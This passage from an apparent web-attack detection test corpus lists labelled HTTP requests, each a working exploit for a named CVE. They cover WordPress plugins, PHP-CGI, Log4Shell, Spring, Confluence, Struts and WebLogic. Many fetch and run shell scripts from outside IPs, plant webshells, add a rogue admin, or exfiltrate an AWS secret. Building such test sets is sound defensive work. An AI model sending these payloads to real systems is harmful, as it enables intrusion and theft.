     _raw("POST /node/?_format=hal_json HTTP/1.1", "Host: www.victim-site.org", "Content-Type: application/hal+json",
          _UA_PY,
          body='{"link":[{"value":"link","options":"O:24:\\"GuzzleHttp\\\\Psr7\\\\FnStream\\":2:{s:33:\\"\\u0000'
               'GuzzleHttp\\\\Psr7\\\\FnStream\\u0000methods\\";a:1:{s:5:\\"close\\";a:2:{i:0;O:23:\\"GuzzleHttp'
               '\\\\HandlerStack\\":3:{s:32:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000handler\\";s:2:\\"id\\";'
               's:30:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000stack\\";a:1:{i:0;a:1:{i:0;s:6:\\"system\\";}}'
               's:31:\\"\\u0000GuzzleHttp\\\\HandlerStack\\u0000cached\\";b:0;}i:1;s:7:\\"resolve\\";}}'
               's:9:\\"_fn_close\\";a:2:{i:0;r:4;i:1;s:7:\\"resolve\\";}}"}],"_links":{"type":{"href":'
               '"http://www.victim-site.org/rest/type/shortcut/default"}}}')),

    # --- WordPress plugins ---
    ("php", "CVE-2020-25213 WP File Manager elFinder connector.minimal.php PHP upload",
     "raw", "",
     _raw("POST /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php HTTP/1.1",
          "Host: blog.victim-site.com", "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryvJHVHdlz8wvPo4Hw",
          _UA_CHROME78, body=_FILEMANAGER_UPLOAD)),
    ("ptrav", "CVE-2014-9734 Slider Revolution revslider_show_image wp-config.php read",
     "path", "", "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php"),
    ("ptrav", "CVE-2020-11738 Duplicator duplicator_download traversal",
     "raw", "",
     _raw("GET /wp-admin/admin-ajax.php?action=duplicator_download&file=..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd"
          " HTTP/1.1", "Host: blog.victim-site.com", _UA_GO)),
    ("sqli", "CVE-2024-27956 WP-Automatic csv.php SQL injection creating admin",
     "raw", "",
     _raw("POST /wp-content/plugins/wp-automatic/inc/csv.php HTTP/1.1", "Host: blog.victim-site.com", _FORM, _UA_PY,
          body="q=INSERT+INTO+wp_users+(user_login,user_pass,user_nicename,user_email,user_registered,user_status,"
               "display_name)+VALUES+('eviladmin','$P$BASbMqW0nlZRux/2IhCw7AdvoNI4VT0','eviladmin',"
               "'eviladmin@mailinator.com','2024-04-30+16:26:43',0,'eviladmin')&auth=%00&integ=dc9b923a00f0a3b4d6e1"
               "e6e6e1bfc8a4")),
    ("php", "CVE-2024-25600 Bricks Builder render_element queryEditor PHP eval",
     "raw", "",
     _raw("POST /wp-json/bricks/v1/render_element HTTP/1.1", "Host: blog.victim-site.com", _JSON, _UA_PY,
          body='{"postId":"1","nonce":"e1b7b0c9d2","element":{"name":"container","settings":{"hasLoop":"true",'
               '"query":{"useQueryEditor":true,"queryEditor":"throw new Exception(`curl -s http://45.95.147.236/'
               'br.sh|sh`);","objectType":"post"}}}}')),
    ("php", "CVE-2020-12800 Drag and Drop Multiple File Upload for Contact Form 7 .phtml webshell upload",
     "raw", "",
     _raw("POST /wp-admin/admin-ajax.php HTTP/1.1", "Host: blog.victim-site.com",
          "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryq2xCkL7dVbR1eZ0s", _UA_PY,
          body=_multipart("----WebKitFormBoundaryq2xCkL7dVbR1eZ0s",
                          ('name="action"', None, "dnd_codedropz_upload"),
                          ('name="type"', None, "click"),
                          ('name="upload-file"; filename="x.phtml"', "image/jpeg",
                           "<?php echo 'dnd'; @system($_GET['c']); ?>")))),
    ("sqli", "CVE-2022-21661 WordPress WP_Query tax_query terms SQL injection via ecsload",
     "raw", "",
     _raw("POST /wp-admin/admin-ajax.php HTTP/1.1", "Host: blog.victim-site.com", _FORM, _UA_PY,
          body="action=ecsload&query=%7B%22tax_query%22%3A%7B%220%22%3A%7B%22field%22%3A%22term_taxonomy_id%22%2C"
               "%22terms%22%3A%5B%22111%29+and+extractvalue%28rand%28%29%2Cconcat%280x5e%2Cuser%28%29%2C0x5e%29"
               "%29%23%22%5D%7D%7D%7D&ecs_ajax_settings=%7B%22post_id%22%3A1%2C%22current_page%22%3A2%2C"
               "%22widget_id%22%3A1%7D")),
    ("ssrf", "WordPress xmlrpc pingback.ping SSRF to internal metadata",
     "raw", "",
     _raw("POST /xmlrpc.php HTTP/1.1", "Host: blog.victim-site.com", "Content-Type: text/xml", _UA_PY, body=
     '<?xml version="1.0" encoding="UTF-8"?><methodCall><methodName>pingback.ping</methodName><params><param>'
     '<value><string>http://169.254.169.254/latest/meta-data/</string></value></param><param><value><string>'
     'https://blog.victim-site.com/?p=1</string></value></param></params></methodCall>')),
    ("scanner", "WordPress xmlrpc system.multicall credential brute-force",
     "raw", "",
     _raw("POST /xmlrpc.php HTTP/1.1", "Host: blog.victim-site.com", "Content-Type: text/xml",
          "User-Agent: Mozilla/5.0 (Windows NT 6.1; rv:34.0) Gecko/20100101 Firefox/34.0",
          body='<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value>'
               '<array><data><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs'
               '</string></value></member><member><name>params</name><value><array><data><value><string>admin'
               '</string></value><value><string>123456</string></value></data></array></value></member></struct>'
               '</value><value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string>'
               '</value></member><member><name>params</name><value><array><data><value><string>admin</string>'
               '</value><value><string>admin123</string></value></data></array></value></member></struct></value>'
               '</data></array></value></param></params></methodCall>')),
    ("rfi", "CVE-2019-9978 Social Warfare swp_url remote options include",
     "path", "", "/wp-admin/admin-post.php?swp_debug=load_options&swp_url=http://185.225.74.251/sw.txt"),
    ("rfi", "TimThumb src remote file fetch webshell (whitelisted-domain trick)",
     "path", "", "/wp-content/themes/victim/timthumb.php?src=http://blogger.com.185.225.74.251.nip.io/x.php"),

    # --- PHP-CGI, pearcmd, Joomla, Magento, phpMyAdmin ---
    ("php", "CVE-2024-4577 PHP-CGI Windows soft-hyphen argument injection",
     "raw", "",
     _raw("POST /php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input HTTP/1.1",
          "Host: 203.66.1.9", _FORM, "User-Agent: Mozilla/5.0",
          body="<?php system('powershell -c \"iwr http://45.95.147.236/p.exe -OutFile $env:TEMP\\p.exe; "
               "& $env:TEMP\\p.exe\"'); ?>")),
    ("php", "CVE-2024-4577 PHP-CGI raw 0xAD byte argument injection",
     "raw", "",
     _raw("POST /test.php?\udcadd+allow_url_include%3d1+\udcadd+auto_prepend_file%3dphp://input HTTP/1.1",
          "Host: 203.66.1.10", "User-Agent: curl/8.4.0", _FORM,
          body="<?php echo md5('cve-2024-4577'); ?>")),
    ("php", "CVE-2012-1823 PHP-CGI query string -d auto_prepend_file=php://input",
     "raw", "",
     _raw("POST /cgi-bin/php?%2D%64+%61%6C%6C%6F%77%5F%75%72%6C%5F%69%6E%63%6C%75%64%65%3D%6F%6E+%2D%64+%73%61%66%65"
          "%5F%6D%6F%64%65%3D%6F%66%66+%2D%64+%73%75%68%6F%73%69%6E%2E%73%69%6D%75%6C%61%74%69%6F%6E%3D%6F%6E+%2D"
          "%64+%64%69%73%61%62%6C%65%5F%66%75%6E%63%74%69%6F%6E%73%3D%22%22+%2D%64+%6F%70%65%6E%5F%62%61%73%65%64"
          "%69%72%3D%6E%6F%6E%65+%2D%64+%61%75%74%6F%5F%70%72%65%70%65%6E%64%5F%66%69%6C%65%3D%70%68%70%3A%2F%2F"
          "%69%6E%70%75%74+%2D%64+%63%67%69%2E%66%6F%72%63%65%5F%72%65%64%69%72%65%63%74%3D%30+%2D%64+%63%67%69%2E"
          "%72%65%64%69%72%65%63%74%5F%73%74%61%74%75%73%5F%65%6E%76%3D%30+%2D%6E HTTP/1.1",
          "Host: 203.66.1.11", "User-Agent: Mozilla/5.0", _FORM,
          body='<?php system("cd /tmp;wget http://198.98.56.129/php.sh;sh php.sh"); die(); ?>')),
    ("php", "CVE-2012-1823 PHP-CGI plain -d options on index.php",
     "path", "", "/index.php?-d allow_url_include=on -d auto_prepend_file=http://185.225.74.251/x.txt -n"),
    ("php", "pearcmd.php register_argc_argv config-create webshell write",
     "raw", "",
     _raw("GET /index.php?+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=system($_GET['c']);?>"
          "+/var/www/html/ppp.php HTTP/1.1", "Host: 203.66.1.12", _UA_GO)),
    ("scanner", "CVE-2023-23752 Joomla API config/application public=true credential leak",
     "path", "", "/api/index.php/v1/config/application?public=true"),
    ("php", "CVE-2015-8562 Joomla session object injection via User-Agent",
     "header:User-Agent", "",
     '}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";'
     'a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";'
     's:59:"eval(base64_decode($_POST[111]));JFactory::getConfig();exit";s:19:"cache_name_function";s:6:"assert";'
     's:5:"cache";b:1;s:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";'
     'b:1;}\udcf0\udcfd\udcfd\udcfd'),
    ("xxe", "CVE-2024-34102 Magento CosmicSting estimate-shipping-methods XXE",
     "raw", "",
     _raw("POST /rest/V1/guest-carts/1/estimate-shipping-methods HTTP/1.1", "Host: shop.victim-store.com", _JSON,
          _UA_PY,
          body='{"address":{"totalsReader":{"collectorList":{"totalCollector":{"sourceData":{"data":"<?xml '
               'version=\\"1.0\\" ?><!DOCTYPE r [<!ELEMENT r ANY ><!ENTITY % sp SYSTEM \\"http://89.190.156.145/'
               'cs.dtd\\"> %sp; %param1; ]><r>&exfil;</r>","options":16}}}}}}')),
    ("ptrav", "CVE-2018-12613 phpMyAdmin target double-encoded traversal",
     "raw", "",
     _raw("GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../../../../../etc/passwd HTTP/1.1",
          "Host: 203.66.1.13", _UA_CHROME78)),

    # --- Log4Shell (CVE-2021-44228 / CVE-2021-45046) ---
    ("java", "CVE-2021-44228 Log4Shell in User-Agent (ldap)",
     "header:User-Agent", "", "${jndi:ldap://45.83.193.150:1389/Exploit}"),
    ("java", "CVE-2021-44228 Log4Shell in X-Api-Version (interactsh callback)",
     "header:X-Api-Version", "", "${jndi:ldap://c6r4e2s2vtc0000rqa9gg8k5zbyyyyyyb.interact.sh/a}"),
    ("java", "CVE-2021-44228 Log4Shell ${::-x} obfuscation in Referer (rmi)",
     "header:Referer", "", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://195.54.160.149:1099/ass}"),
    ("java", "CVE-2021-44228 Log4Shell ${lower:} obfuscation in X-Forwarded-For",
     "header:X-Forwarded-For", "", "${jndi:${lower:l}${lower:d}a${lower:p}://log4j.kryptoslogic-scan.net/x}"),
    ("java", "CVE-2021-44228 Log4Shell in session cookie",
     "cookie", "", "JSESSIONID=${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/"
     "KGN1cmwgLXMgNDUuMTU1LjIwNS4yMzM6NTg3NC94fHx3Z2V0IC1xIC1PLSA0NS4xNTUuMjA1LjIzMzo1ODc0L3gpfGJhc2g=}"),
    ("java", "CVE-2021-44228 Log4Shell in search query parameter",
     "query", "q", "${jndi:ldap://198.98.56.129:1389/a}"),
    ("java", "CVE-2021-44228 Log4Shell in URL path",
     "path", "", "/${jndi:ldap://167.99.44.32:1389/Basic/Command/Base64/Y2QgL3RtcDt3Z2V0IGh0dHA6Ly85NC4xNTYuOC4yNDQveC5zaDtzaCB4LnNo}"),
    ("java", "CVE-2021-44228 Log4Shell spray across many headers (mass scanner)",
     "raw", "",
     _raw("GET /?x=${jndi:ldap://${hostName}.c6qgldh5u37.log4j.binaryedge.io:80/a} HTTP/1.1",
          "Host: 52.14.77.3",
          "User-Agent: ${jndi:ldap://${hostName}.c6qgldh5u37.log4j.binaryedge.io:80/ua}",
          "Referer: ${jndi:ldap://${hostName}.c6qgldh5u37.log4j.binaryedge.io:80/ref}",
          "X-Api-Version: ${jndi:ldap://${hostName}.c6qgldh5u37.log4j.binaryedge.io:80/api}",
          "X-Forwarded-For: ${jndi:ldap://${hostName}.c6qgldh5u37.log4j.binaryedge.io:80/xff}",
          "Authorization: Bearer ${jndi:ldap://${hostName}.c6qgldh5u37.log4j.binaryedge.io:80/auth}",
          "Accept: */*")),
    ("java", "CVE-2021-44228 Log4Shell ${env:...:-} default-value obfuscation",
     "header:User-Agent", "",
     "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//45.83.193.150:1389/T1}"),
    ("java", "CVE-2021-44228 Log4Shell DNS callback with hostName lookup",
     "header:X-Client-IP", "", "${jndi:dns://${hostName}.l4j.dnslog.cn/a}"),
    ("java", "CVE-2021-44228 Log4Shell exfiltrating AWS secret via env lookup",
     "header:True-Client-IP", "", "${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.exfil.c3kz91.oast.fun/a}"),
    ("java", "CVE-2021-44228 Log4Shell nested ${lower:${lower:jndi}} obfuscation",
     "header:Accept", "", "${${lower:${lower:jndi}}:${lower:ldap}://mirai.log4j-exploit.xyz:1389/Exploit}"),
    ("java", "CVE-2021-45046 Log4Shell localhost#host allowlist bypass",
     "header:X-Forwarded-Host", "", "${jndi:ldap://127.0.0.1#l4j.kinsing-cdn.top:1389/a}"),
    ("java", "CVE-2021-44228 Log4Shell unknown-lookup default obfuscation ${k8s:k5:-ND}",
     "header:User-Agent", "", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://45.83.193.150:1389/o}"),
    ("java", "CVE-2021-44228 Log4Shell VMware Horizon Accept-Language",
     "raw", "",
     _raw("GET /portal/info.jsp HTTP/1.1", "Host: horizon.victim-corp.com",
          "Accept-Language: ${jndi:ldap://${:-691}${:-421}.${hostName}.horizon.c6r8e.oast.pro/a}", _UA_PY)),
    ("java", "CVE-2021-44228 Log4Shell UniFi Network remember field",
     "raw", "",
     _raw("POST /api/login HTTP/1.1", "Host: 84.11.92.3:8443", _JSON, _UA_PY,
          body='{"username":"admin","password":"admin","remember":"${jndi:ldap://137.184.102.82:1389/o=tomcat}",'
               '"strict":true}')),
    ("java", "CVE-2021-44228 Log4Shell VMware vCenter websso X-Forwarded-For",
     "raw", "",
     _raw("GET /websso/SAML2/SSO/vsphere.local?SAMLRequest= HTTP/1.1", "Host: vcenter.victim-corp.com",
          "X-Forwarded-For: ${jndi:ldap://137.184.102.82:1389/vc}", "User-Agent: Mozilla/5.0")),
    ("java", "CVE-2021-44228 Log4Shell Apache Solr admin cores action",
     "path", "", "/solr/admin/cores?action=${jndi:ldap://45.83.193.150:1389/solr}&wt=json"),
    ("java", "CVE-2021-44228 Log4Shell MobileIron j_username",
     "raw", "",
     _raw("POST /mifs/j_spring_security_check HTTP/1.1", "Host: mdm.victim-corp.com", _FORM, _UA_PY,
          body="j_username=${jndi:ldap://45.83.193.150:1389/mi}&j_password=password&logincontext=employee")),
    ("java", "CVE-2021-44228 Log4Shell in login form username",
     "form", "username", "${jndi:rmi://45.83.193.150:1099/Log4Shell}"),
    ("java", "CVE-2021-44228 Log4Shell in JSON body field",
     "json", "email", "${jndi:ldap://${sys:java.version}.j.oast.online/a}"),
    ("java", "CVE-2021-44228 Log4Shell in upload filename",
     "multipart", "", "${jndi:ldap://45.83.193.150:1389/upl}.png"),
    ("java", "CVE-2021-44228 Log4Shell in If-Modified-Since header",
     "header:If-Modified-Since", "", "${jndi:ldap://45.83.193.150:1389/ims}"),
    ("java", "CVE-2021-44228 Log4Shell percent-encoded in query (raw)",
     "raw", "",
     _raw("GET /?id=%24%7Bjndi%3Aldap%3A%2F%2F45.83.193.150%3A1389%2FExploit%7D HTTP/1.1", "Host: 52.14.77.4",
          "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:95.0) Gecko/20100101 Firefox/95.0")),

    # --- Spring ---
    ("java", "CVE-2022-22965 Spring4Shell classLoader pipeline log-valve JSP write",
     "raw", "",
     _raw("POST /index HTTP/1.1", "Host: 52.14.77.10:8080", "suffix: %>//", "c1: Runtime", "c2: <%", "DNT: 1",
          _FORM, _UA_PY, body=_SPRING4SHELL)),
    ("java", "CVE-2022-22965 Spring4Shell classLoader URLs[0] probe",
     "path", "", "/?class.module.classLoader.URLs%5B0%5D=0"),
    ("java", "CVE-2022-22963 Spring Cloud Function routing-expression SpEL",
     "raw", "",
     _raw("POST /functionRouter HTTP/1.1", "Host: 52.14.77.11:8080",
          'spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("bash -c '
          '{echo,Y2QgL3RtcDt3Z2V0IGh0dHA6Ly85NC4xNTYuOC4yNDQveC5zaDtzaCB4LnNo}|{base64,-d}|{bash,-i}")',
          "Content-Type: text/plain", _UA_PY, body="cve-2022-22963")),
    ("java", "CVE-2022-22947 Spring Cloud Gateway actuator route SpEL injection",
     "raw", "",
     _raw("POST /actuator/gateway/routes/hacktest HTTP/1.1", "Host: 52.14.77.12:8080", _JSON, _UA_PY,
          body='{"id":"hacktest","filters":[{"name":"AddResponseHeader","args":{"name":"Result","value":'
               '"#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).'
               'getRuntime().exec(new String[]{\\"id\\"}).getInputStream()))}"}}],"uri":"http://example.com"}')),
    ("java", "Spring Boot actuator env H2 connection-test-query CREATE ALIAS RCE",
     "raw", "",
     _raw("POST /actuator/env HTTP/1.1", "Host: 52.14.77.13:8080", _JSON, _UA_GO,
          body='{"name":"spring.datasource.hikari.connection-test-query","value":"CREATE ALIAS EXEC AS CONCAT('
               '\'String shellexec(String cmd) throws java.io.IOException { java.util.Scanner s = new\','
               '\' java.util.Scanner(Runtime.getRuntime().exec(cmd).getInputStream());  if (s.hasNext()) {return '
               's.next();} throw new IllegalArgumentException(); }\');CALL EXEC(\'curl http://45.142.182.77/h2.sh'
               '\');"}')),
    ("java", "CVE-2018-1273 Spring Data Commons property path SpEL injection",
     "raw", "",
     _raw("POST /users?page=&size=5 HTTP/1.1", "Host: 52.14.77.14:8080", _FORM, _UA_PY,
          body='username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("wget -qO /tmp/s '
               'http://45.142.182.77/s.sh")]=&password=&repeatedPassword=')),

    # --- Atlassian Confluence ---
    ("java", "CVE-2022-26134 Confluence OGNL in URI with X-Cmd-Response header",
     "raw", "",
     _raw("GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime"
          "%28%29.exec%28%22id%22%29.getInputStream%28%29%2C%22utf-8%22%29%29.%28%40com.opensymphony.webwork."
          "ServletActionContext%40getResponse%28%29.setHeader%28%22X-Cmd-Response%22%2C%23a%29%29%7D/ HTTP/1.1",
          "Host: wiki.victim-corp.com", _UA_PY, "Accept: */*")),
    ("java", "CVE-2022-26134 Confluence OGNL nashorn ProcessBuilder dropper",
     "path", "",
     "/${new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"new java.lang.ProcessBuilder()"
     ".command('bash','-c','curl -s http://45.142.182.77/cf.sh|bash').start()\")}/"),
    ("java", "CVE-2021-26084 Confluence createpage-entervariables queryString OGNL",
     "raw", "",
     _raw("POST /pages/createpage-entervariables.action?SpaceKey=x HTTP/1.1", "Host: wiki.victim-corp.com", _FORM,
          _UA_PY,
          body="queryString=aaaaaaaa%5Cu0027%2B%7BClass.forName%28%5Cu0027javax.script.ScriptEngineManager%5Cu0027"
               "%29.newInstance%28%29.getEngineByName%28%5Cu0027JavaScript%5Cu0027%29.%5Cu0065val%28%5Cu0027var+"
               "isWin+%3D+java.lang.System.getProperty%28%5Cu0022os.name%5Cu0022%29.toLowerCase%28%29.contains%28"
               "%5Cu0022win%5Cu0022%29%3B+var+cmd+%3D+new+java.lang.String%28%5Cu0022id%5Cu0022%29%3Bvar+p+%3D+"
               "new+java.lang.ProcessBuilder%28%29%3B+if%28isWin%29%7Bp.command%28%5Cu0022cmd.exe%5Cu0022%2C+"
               "%5Cu0022%2Fc%5Cu0022%2C+cmd%29%3B+%7D+else%7Bp.command%28%5Cu0022bash%5Cu0022%2C+%5Cu0022-c"
               "%5Cu0022%2C+cmd%29%3B+%7Dp.redirectErrorStream%28true%29%3B+var+process%3D+p.start%28%29%3B+"
               "var+inputStreamReader+%3D+new+java.io.InputStreamReader%28process.getInputStream%28%29%29%3B+"
               "var+bufferedReader+%3D+new+java.io.BufferedReader%28inputStreamReader%29%3B+var+line+%3D+%5Cu0022"
               "%5Cu0022%3B+var+output+%3D+%5Cu0022%5Cu0022%3B+while%28%28line+%3D+bufferedReader.readLine%28%29"
               "%29+%21%3D+null%29%7Boutput+%3D+output+%2B+line+%2B+java.lang.Character.toString%2810%29%3B+%7D"
               "%5Cu0027%29%7D%2B%5Cu0027")),
    ("java", "CVE-2023-22527 Confluence text-inline.vm velocity/OGNL injection",
     "raw", "",
     _raw("POST /template/aui/text-inline.vm HTTP/1.1", "Host: wiki.victim-corp.com", _FORM, _UA_PY,
          body="label=%5Cu0027%2B%23request%5Cu005b%5Cu0027.KEY_velocity.struts2.context%5Cu0027%5Cu005d."
               "internalGet(%5Cu0027ognl%5Cu0027).findValue(%23parameters.x,%7B%7D)%2B%5Cu0027"
               "&x=@org.apache.struts2.ServletActionContext@getResponse().setHeader(%27X-Cmd-Response%27,"
               "(new%20freemarker.template.utility.Execute()).exec(%7B%22id%22%7D))")),
    ("java", "CVE-2023-22515 Confluence setupComplete=false broken access control via OGNL setter",
     "raw", "",
     _raw("GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false HTTP/1.1",
          "Host: wiki.victim-corp.com", "X-Atlassian-Token: no-check", _UA_PY)),
    ("ssti", "CVE-2019-3396 Confluence widget connector _template remote velocity",
     "raw", "",
     _raw("POST /rest/tinymce/1/macro/preview HTTP/1.1", "Host: wiki.victim-corp.com", _JSON,
          "Referer: https://wiki.victim-corp.com/pages/resumedraft.action?draftId=786457", _UA_PY,
          body='{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":'
               '"https://www.viddler.com/v/23464dc5","width":"1000","height":"1000",'
               '"_template":"ftp://45.142.182.77/cmd.vm","command":"wget -qO- http://45.142.182.77/cw.sh|sh"}}}')),

    # --- Apache Struts 2 ---
    ("java", "CVE-2017-5638 Struts2 S2-045 OGNL in Content-Type",
     "raw", "",
     _raw("GET /index.action HTTP/1.1", "Host: 52.14.77.20:8080", "User-Agent: Mozilla/5.0",
          "Content-Type: " + _S2_045, "Accept: */*")),
    ("java", "CVE-2017-5638 Struts2 S2-046 OGNL in multipart filename with null byte",
     "raw", "",
     _raw("POST /doUpload.action HTTP/1.1", "Host: 52.14.77.21:8080",
          "Content-Type: multipart/form-data; boundary=----WebKitFormBoundaryXd004BVJN9pBYBL2", _UA_PY,
          body=_S2_046_UPLOAD)),
    ("java", "CVE-2018-11776 Struts2 S2-057 OGNL in namespace path",
     "path", "",
     "/struts2-showcase/${(#_memberAccess[\"allowStaticMethodAccess\"]=true,#a=@java.lang.Runtime@getRuntime()"
     ".exec('id').getInputStream(),#b=new java.io.InputStreamReader(#a),#c=new java.io.BufferedReader(#b),"
     "#d=new char[51020],#c.read(#d),#sbtest=@org.apache.struts2.ServletActionContext@getResponse().getWriter(),"
     "#sbtest.println(#d),#sbtest.close())}/actionChain1.action"),
    ("java", "CVE-2016-3081 Struts2 S2-032 method: prefix dynamic method invocation",
     "raw", "",
     _raw("GET /index.action?method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d%40org."
          "apache.struts2.ServletActionContext%40getResponse(),%23res.setCharacterEncoding(%23parameters.encoding"
          "%5B0%5D),%23w%3d%23res.getWriter(),%23s%3dnew+java.util.Scanner(@java.lang.Runtime@getRuntime().exec("
          "%23parameters.cmd%5B0%5D).getInputStream()).useDelimiter(%23parameters.pp%5B0%5D),%23str%3d%23s.hasNext()"
          "%3f%23s.next()%3a%23parameters.ppp%5B0%5D,%23w.print(%23str),%23w.close(),1?%23xx:%23request.toString"
          "&cmd=id&pp=%5C%5CA&ppp=%20&encoding=UTF-8 HTTP/1.1", "Host: 52.14.77.22:8080", _UA_PY)),
    ("java", "CVE-2013-2251 Struts2 S2-016 redirect: prefix OGNL",
     "raw", "",
     _raw("GET /login.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'id'}))"
          ".start(),%23b%3d%23a.getInputStream(),%23c%3dnew%20java.io.InputStreamReader(%23b),%23d%3dnew%20java.io."
          "BufferedReader(%23c),%23e%3dnew%20char[50000],%23d.read(%23e),%23matt%3d%23context.get('com.opensymphony."
          "xwork2.dispatcher.HttpServletResponse'),%23matt.getWriter().println(%23e),%23matt.getWriter().flush(),"
          "%23matt.getWriter().close()} HTTP/1.1", "Host: 52.14.77.23:8080", _UA_PY)),
    ("java", "CVE-2020-17530 Struts2 S2-061 forced double OGNL evaluation in id",
     "form", "id", _S2_061),
    ("java", "CVE-2023-50164 Struts2 S2-066 upload filename parameter override traversal",
     "raw", "",
     _raw("POST /upload.action HTTP/1.1", "Host: 52.14.77.24:8080",
          "Content-Type: multipart/form-data; boundary=----WebKitFormBoundary5WJ61X4PRwyYKlip", _UA_PY,
          body=_S2_066_UPLOAD)),

    # --- Oracle WebLogic, JBoss, Tomcat and other Java servers ---
    ("java", "CVE-2017-10271 WebLogic wls-wsat XMLDecoder ProcessBuilder (miner botnets)",
     "raw", "",
     _raw("POST /wls-wsat/CoordinatorPortType HTTP/1.1", "Host: 52.14.77.30:7001", "Content-Type: text/xml",
          "User-Agent: Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.0",
          body=_WLS_XMLDECODER)),
    ("java", "CVE-2020-14882/14883 WebLogic console double-encoded traversal ShellSession",
     "raw", "",
     _raw("GET /console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence."
          "mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27wget%20http://185.191.32.198/wlc.sh"
          "%20-O%20/tmp/wlc.sh%27);%22) HTTP/1.1", "Host: 52.14.77.31:7001", _UA_GO)),
    ("java", "JBoss jmx-console MainDeployer remote WAR deploy",
     "raw", "",
     _raw("GET /jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service=MainDeployer&methodIndex=19"
          "&arg0=http://185.191.32.198/jbossass.war HTTP/1.1", "Host: 52.14.77.32:8080",
          "User-Agent: Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)")),
    ("java", "CVE-2017-12617 Tomcat PUT JSP webshell (trailing slash)",
     "raw", "",
     _raw("PUT /x7kd.jsp/ HTTP/1.1", "Host: 52.14.77.33:8080", "User-Agent: Mozilla/5.0", "Content-Type: text/plain",
          body='<%@ page import="java.util.*,java.io.*"%><% if (request.getParameter("cmd") != null) { Process p = '
               'Runtime.getRuntime().exec(request.getParameter("cmd")); DataInputStream dis = new DataInputStream('
               'p.getInputStream()); String l = dis.readLine(); while (l != null) { out.println(l); l = '
               'dis.readLine(); } } %>')),
    ("java", "CVE-2019-7238 Nexus Repository extdirect JEXL expression injection",
     "raw", "",
     _raw("POST /service/extdirect HTTP/1.1", "Host: 52.14.77.34:8081", _JSON, _UA_PY,
          body='{"action":"coreui_Component","method":"previewAssets","data":[{"page":1,"start":0,"limit":50,'
               '"sort":[{"property":"name","direction":"ASC"}],"filter":[{"property":"repositoryName","value":"*"},'
               '{"property":"expression","value":"233.class.forName(\'java.lang.Runtime\').getRuntime().exec('
               '\'curl -o /tmp/nx http://45.142.182.77/nx\')"},{"property":"type","value":"jexl"}]}],"type":"rpc",'
               '"tid":8}')),
    ("java", "CVE-2015-1427 Elasticsearch Groovy sandbox escape script_fields",
     "raw", "",
     _raw("POST /_search?pretty HTTP/1.1", "Host: 52.14.77.35:9200", _JSON, _UA_PY,
          body='{"size":1,"script_fields":{"lupin":{"lang":"groovy","script":"java.lang.Math.class.forName('
               '\\"java.lang.Runtime\\").getRuntime().exec(\\"wget http://45.142.182.77/es.sh -O /tmp/es.sh\\")'
               '.getText()"}}}')),
    ("ssti", "CVE-2019-17558 Apache Solr VelocityResponseWriter custom template RCE",
     "raw", "",
     _raw("GET /solr/core1/select?q=1&&wt=velocity&v.template=custom&v.template.custom=%23set($x=%27%27)+%23set("
          "$rt=$x.class.forName(%27java.lang.Runtime%27))+%23set($chr=$x.class.forName(%27java.lang.Character%27))"
          "+%23set($str=$x.class.forName(%27java.lang.String%27))+%23set($ex=$rt.getRuntime().exec(%27id%27))+"
          "$ex.waitFor()+%23set($out=$ex.getInputStream())+%23foreach($i+in+[1..$out.available()])$str.valueOf("
          "$chr.toChars($out.read()))%23end HTTP/1.1", "Host: 52.14.77.36:8983", _UA_PY)),
    ("java", "CVE-2024-32113/45195 Apache OFBiz ProgramExport Groovy via path confusion",
     "raw", "",
     _raw("POST /webtools/control/forgotPassword/;/ProgramExport HTTP/1.1", "Host: 52.14.77.37:8443", _FORM,
          _UA_PY, body="groovyProgram=throw+new+Exception('curl+-s+http://45.142.182.77/of.sh'.execute().text);")),
    ("java", "CVE-2024-36401 GeoServer GetPropertyValue valueReference exec",
     "path", "",
     "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites"
     "&valueReference=exec(java.lang.Runtime.getRuntime(),'curl http://45.142.182.77/gs.sh -o /tmp/gs.sh')"),
